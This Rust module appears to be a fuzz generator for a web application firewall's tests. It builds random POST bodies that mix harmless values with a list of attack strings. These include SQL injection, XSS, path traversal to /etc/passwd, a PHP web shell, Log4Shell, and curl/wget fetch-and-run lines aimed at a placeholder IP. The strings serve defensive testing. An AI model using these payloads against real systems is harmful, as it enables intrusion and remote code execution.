//! Random POSTs: forms, JSON, multipart and XML, most of them harmless, some with the marks of attacks, some broken.

use waf::OwnedRequest;

/// A POST with its raw head and body.
#[derive(Debug, Clone)]
pub(crate) struct Post {
    pub(crate) number: usize,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: Vec<u8>,
}

impl Post {
    /// The bytes on the wire.
    pub(crate) fn to_bytes(&self) -> Vec<u8> {
        self.request().with(|request| request.to_bytes())
    }

    pub(crate) fn request(&self) -> OwnedRequest {
        let headers =
            self.headers.iter().map(|(name, value)| (name.clone().into_bytes(), value.clone().into_bytes()));
        OwnedRequest {
            method: b"POST".to_vec(),
            target: self.target.clone().into_bytes(),
            version: b"HTTP/1.1".to_vec(),
            headers: headers.collect(),
            body: self.body.clone(),
            client: [127, 0, 0, 1].into(),
        }
    }

    pub(crate) fn describe(&self) -> String {
        let kind =
            self.headers.iter().find(|(name, _)| name == "Content-Type").map(|(_, kind)| kind.as_str());
        let body = String::from_utf8_lossy(&self.body).into_owned();
        format!("#{} {} {} {body:?}", self.number, self.target, kind.unwrap_or("-"))
    }

    /// A POST with the header that the servers' logs are read by.
    pub(crate) fn new(number: usize, target: &str, kind: &str, body: Vec<u8>) -> Post {
        let headers = [
            ("Host", "shop.example"),
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
            ("Accept", "application/json, text/plain, */*"),
            ("X-Test-Number", &number.to_string()),
            ("Content-Type", kind),
            ("Content-Length", &body.len().to_string()),
            ("Connection", "close"),
        ];
        let headers = headers.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
        Post { number, target: target.to_owned(), headers, body }
    }
}

const HARMLESS: &[&str] = &[
    "Anna Berg",
    "Malmö",
    "42",
    "anna@shop.example",
    "Please leave it at the door.",
    "3.14",
    "2026-11-26T09:00:00Z",
    "The workers' union will select a new leader from the members",
    "5 > 3 & 2 < 4",
    "C:\\Users\\anna\\photo.jpg",
    "https://shop.example/items?id=7&ref=mail",
    "50% off",
    "a+b=c",
    "O'Hara",
    "\"quoted\"",
    "line one\nline two",
    "price: $20 (was $25)",
    "#hash @mention",
    "null",
    "true",
    "-1",
    "日本語",
    "naïve café",
    "100 000",
    "key=value",
    "<b>bold</b>",
    "select specialty hospital",
    "[1, 2, 3]",
    "{\"a\": 1}",
    "SGVsbG8gd29ybGQ=",
    "tel:+46-40-123456",
    "../images/logo.png",
    "Drop us a line; or call",
    "What's new in version 2.0?",
    "-- Anna",
    "order by Friday",
    "the file /etc/hosts explained",
    "if (a == b) { return; }",
    "x",
    "",
];

const ATTACKS: &[&str] = &[
    "1' or 1=1 -- ",
    "1 union select password from users",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://203.0.113.9/x | sh)",
    "<?php system($_GET['c']); ?>",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "' and sleep(5)#",
    "admin'--",
    "1; drop table users",
    "${jndi:ldap://203.0.113.9/a}",
    "{{7*7}}",
    "() { :; }; /bin/bash -c id",
    "http://203.0.113.9/evil.txt?",
    "file:///etc/shadow",
    "`id`",
    "<svg/onload=alert(1)>",
    "1 AND (SELECT 1 FROM information_schema.tables)",
    "%0d%0aSet-Cookie: a=b",
    "java.lang.Runtime",
    "require('child_process').exec('id')",
    "\" or \"\"=\"",
    "wget http://203.0.113.9/a.sh",
    "__proto__[x]=1",
    "<iframe src=javascript:alert(1)>",
    "benchmark(10000000,md5(1))",
    "|| ping -c 1 203.0.113.9",
    "0x3c7363726970743e",
];

const NAMES: &[&str] = &[
    "name",
    "text",
    "q",
    "email",
    "comment",
    "id",
    "tags[]",
    "user.name",
    "note-1",
    "Ünï",
    "file",
    "json",
    "a b",
];

/// Makes posts from a seed.
pub(crate) struct Generator {
    state: u64,
}

impl Generator {
    pub(crate) fn new(seed: u64) -> Generator {
        Generator { state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1 }
    }

    /// A number below `limit` (xorshift64*).
    pub(crate) fn below(&mut self, limit: usize) -> usize {
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        (self.state.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % limit
    }

    fn of(&mut self, texts: &'static [&'static str]) -> &'static str {
        texts[self.below(texts.len())]
    }

    fn value(&mut self) -> String {
        match self.below(10) {
            0 | 1 => self.of(ATTACKS).to_owned(),
            2 => format!("{} {}", self.of(HARMLESS), self.of(ATTACKS)),
            3 => format!("{} {}", self.of(HARMLESS), self.of(HARMLESS)),
            _ => self.of(HARMLESS).to_owned(),
        }
    }

    fn fields(&mut self) -> Vec<(&'static str, String)> {
        (0..1 + self.below(4)).map(|_| (self.of(NAMES), self.value())).collect()
    }

    /// The next post.
    pub(crate) fn post(&mut self, number: usize) -> Post {
        let target = match self.below(6) {
            0 => "/api/orders?page=2&q=chair".to_owned(),
            1 => format!("/search?q={}", encoded(&self.value())),
            2 => "/a%20b/c".to_owned(),
            _ => "/api/orders".to_owned(),
        };
        let fields = self.fields();
        let (kind, body) = match self.below(8) {
            0 | 1 => ("application/x-www-form-urlencoded".to_owned(), form(&fields)),
            2 | 3 => ("application/json".to_owned(), self.json(&fields)),
            4 | 5 => self.multipart(&fields),
            6 => ("application/xml".to_owned(), xml(&fields)),
            _ => self.odd(&fields),
        };
        Post::new(number, &target, &kind, body)
    }

    fn json(&mut self, fields: &[(&str, String)]) -> Vec<u8> {
        let mut members: Vec<String> =
            fields.iter().map(|(name, value)| format!("{}:{}", quoted(name), quoted(value))).collect();
        match self.below(5) {
            0 => members.push("\"list\":[1,\"two\",{\"deep\":[true,null]}]".to_owned()),
            1 => members.push(format!("\"nested\":{{\"inner\":{}}}", quoted(&self.value()))),
            2 => members.push(format!("\"escaped\":\"\\u0027 \\u003c{}\"", self.of(&["b", "script", "i"]))),
            _ => members.push("\"count\":3,\"rate\":1.5e3,\"ok\":false".to_owned()),
        }
        let object = format!("{{{}}}", members.join(","));
        match self.below(12) {
            0 => format!("[{object},{object}]").into_bytes(),
            1 => object.as_bytes()[..object.len() - 1].to_vec(),
            2 => format!("{object}}}").into_bytes(),
            _ => object.into_bytes(),
        }
    }

    fn multipart(&mut self, fields: &[(&str, String)]) -> (String, Vec<u8>) {
        let boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
        let mut body = String::new();
        for (name, value) in fields {
            let file =
                if self.below(3) == 0 { "; filename=\"photo.png\"\r\nContent-Type: image/png" } else { "" };
            body.push_str(&format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{}\"{file}\r\n\r\n{value}\r\n",
                name.replace('"', "")
            ));
        }
        match self.below(10) {
            0 => {}
            1 => body.push_str(&format!("--{boundary}--\r\ntrailing")),
            _ => body.push_str(&format!("--{boundary}--\r\n")),
        }
        (format!("multipart/form-data; boundary={boundary}"), body.into_bytes())
    }

    /// Types and bodies that clients get wrong.
    fn odd(&mut self, fields: &[(&str, String)]) -> (String, Vec<u8>) {
        match self.below(6) {
            0 => ("text/plain".to_owned(), form(fields)),
            1 => ("application/json".to_owned(), form(fields)),
            2 => ("application/x-www-form-urlencoded".to_owned(), self.json(fields)),
            3 => (
                "application/x-www-form-urlencoded; charset=utf-8".to_owned(),
                b"a=%zz&b=%u0027&=x&c".to_vec(),
            ),
            4 => ("application/vnd.shop+json".to_owned(), self.json(fields)),
            _ => ("application/xml".to_owned(), b"<a><b>open</a>".to_vec()),
        }
    }
}

fn form(fields: &[(&str, String)]) -> Vec<u8> {
    let pairs: Vec<String> =
        fields.iter().map(|(name, value)| format!("{}={}", encoded(name), encoded(value))).collect();
    pairs.join("&").into_bytes()
}

fn xml(fields: &[(&str, String)]) -> Vec<u8> {
    let escaped = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let members: String =
        fields.iter().map(|(_, value)| format!("<item note=\"{0}\">{0}</item>", escaped(value))).collect();
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order>{members}</order>").into_bytes()
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// As a browser encodes a form.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'*' | b'-' | b'.' | b'_' => {
                char::from(byte).to_string()
            }
            b' ' => "+".to_owned(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}
